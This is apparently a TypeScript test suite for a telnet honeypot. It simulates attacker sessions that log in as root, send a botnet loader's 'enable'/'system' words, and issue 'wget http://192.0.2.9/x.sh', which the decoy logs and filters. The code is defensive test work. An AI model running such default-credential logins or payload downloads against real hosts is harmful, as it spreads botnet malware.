import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { describe, expect, test } from "vitest";
import { runClient } from "../testing/run-client.ts";
import { type StartedDecoy, startDecoy } from "../testing/start-decoy.ts";
import { telnet as decoy } from "./index.ts";

/** Reads from a socket until `until` has come. */
async function expectText(socket: Socket, until: string): Promise<string> {
  let text = "";
  while (!text.includes(until)) {
    const [chunk] = (await once(socket, "data")) as [Buffer];
    text += chunk.toString("latin1");
  }
  return text;
}

const script = (port: number): string => `
set timeout 20
spawn telnet 127.0.0.1 ${port}
expect "login: "
send "root\\r"
expect "Password: "
send "hunter2!\\r"
expect "# "
send "id\\r"
expect "uid=0"
send "exit\\r"
expect eof
`;

test("telnet(1) logs in, works and leaves", async () => {
  await using running = await startDecoy(decoy);
  const { code, stdout } = await runClient("expect", ["-c", script(running.port(23))]);
  expect(code).toBe(0);
  expect(stdout.toString()).toContain("Linux 6.1.0-32-amd64 (billing-2) (pts/0)");
  expect(stdout.toString()).not.toContain("hunter2!");
  expect((await running.waitFor("telnet_options")).fields["sequence"]).toMatch(/^WILL TTYPE WILL TSPEED/);
  expect((await running.waitFor("auth_attempt")).fields).toMatchObject({
    principal: "root",
    secret_printable: "hunter2!",
    outcome: "success",
  });
  expect((await running.waitFor("session_started")).fields).toMatchObject({
    service: "telnet",
    kind: "shell",
    tty: "1",
  });
  expect((await running.waitFor("command")).fields).toMatchObject({ cmd: "id", channel: "shell" });
  expect((await running.waitFor("session_recorded")).fields).toMatchObject({ end: "logout", commands: "1" });
});

test("a loader that never waits: its words are noise, its pair gets in, its command runs", {
  timeout: 60_000,
}, async () => {
  await using running = await startDecoy(decoy, { options: { daemon: "busybox" } });
  const lines = [
    "enable",
    "system",
    "root",
    'wrong]"\\',
    "root",
    "hunter2!",
    "wget http://192.0.2.9/x.sh",
    "exit",
  ];
  const { stdout } = await runClient("ncat", ["127.0.0.1", String(running.port(23))], {
    input: `${lines.join("\r\n")}\r\n`,
    timeoutMs: 40_000,
  });
  expect(stdout.subarray(0, 12).toString("hex")).toBe("fffd01fffd1ffffb01fffb03");
  const events = await running.events();
  const of = (type: string) => events.filter((event) => event.type === type).map(({ fields }) => fields);
  expect(of("login_noise").map(({ text }) => text)).toEqual(["enable", "system"]);
  expect(of("auth_attempt").map(({ secret_printable, outcome }) => [secret_printable, outcome])).toEqual([
    ['wrong]"\\', "failure"],
    ["hunter2!", "success"],
  ]);
  expect(of("download_attempt")).toMatchObject([
    { url: "http://192.0.2.9/x.sh", host: "192.0.2.9", scheme: "http", path: "/x.sh", result: "filtered" },
  ]);
});

describe.concurrent("the login behind it, whose delays are waited for together", () => {
  const dialogue = async (running: StartedDecoy): Promise<Socket> => {
    const socket = connect(running.port(23), "127.0.0.1");
    socket.on("error", () => {});
    await expectText(socket, "login: ");
    return socket;
  };

  test("three wrong passwords end with its text, each after its delay", { timeout: 60_000 }, async () => {
    await using running = await startDecoy(decoy);
    const socket = await dialogue(running);
    const before = performance.now();
    for (let attempt = 1; attempt <= 3; attempt += 1) {
      socket.write("root\r\n");
      await expectText(socket, "Password: ");
      socket.write(Buffer.from([0x70, 0xff, 0xff, 0x80, attempt, 0x0d, 0x00]));
      if (attempt < 3) await expectText(socket, "Login incorrect\r\nbilling-2 login: ");
    }
    expect(await expectText(socket, ")\r\n")).toContain("Maximum number of tries exceeded (3)\r\n");
    expect(performance.now() - before).toBeGreaterThan(6_000);
    await once(socket, "close");
    const secrets = (await running.events())
      .filter(({ type }) => type === "auth_attempt")
      .map(({ fields }) => fields["secret_b64"]);
    expect(secrets).toEqual([1, 2, 3].map((n) => Buffer.from([0x70, 0xff, 0x80, n]).toString("base64")));
  });

  test("a client that only listens is told that its time is over", { timeout: 90_000 }, async () => {
    await using running = await startDecoy(decoy, { options: { daemon: "busybox" } });
    const socket = await dialogue(running);
    expect(await expectText(socket, "seconds")).toContain("\r\nLogin timed out after 60 seconds");
    await once(socket, "close");
    expect((await running.waitFor("disconnect")).fields["reason"]).toBe("timeout");
  });

  test.each([
    ["inetutils", /telnet +Linux telnetd/],
    // A soft match: whether nmap adds "BusyBox telnetd 1.14.0 or later" depends on what its other probes get in time.
    ["busybox", /tcp +open +telnet/],
  ])("nmap takes %s for a telnet daemon", async (daemon, service) => {
    await using running = await startDecoy(decoy, { options: { daemon } });
    const port = String(running.port(23));
    const { stdout } = await runClient("nmap", ["-Pn", "-n", "-sV", "-p", port, "127.0.0.1"], {
      timeoutMs: 110_000,
    });
    expect(stdout.toString()).toMatch(service);
  });
});
